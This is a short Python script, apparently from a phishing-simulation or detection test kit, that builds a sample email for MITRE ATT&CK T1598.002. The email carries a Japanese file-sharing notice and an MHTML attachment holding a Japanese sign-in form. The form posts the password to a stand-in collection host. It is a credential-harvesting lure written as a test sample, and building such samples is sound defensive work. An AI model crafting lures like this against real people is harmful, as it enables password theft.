"""A form for the password in a saved page (MHTML).
Scenario: MITRE ATT&CK T1598.002."""
from kit import *


def make():
    page = '<html><body><p>サインインしてください。</p><form action="https://collect.example.net/"><input type="password" name="p"></form></body></html>'
    mht = (b"From: <Saved by Blink>\r\nSubject: Sign in\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type=\"text/html\"; boundary=\"--x\"\r\n\r\n"
           b"----x\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(page.encode()) + b"----x--\r\n")
    return (Mail("共有ファイルのお知らせ", "share@files.example.com").text("ファイルが共有されました。\n")
            .attach("document.mht", mht, "application/x-mimearchive").bytes())
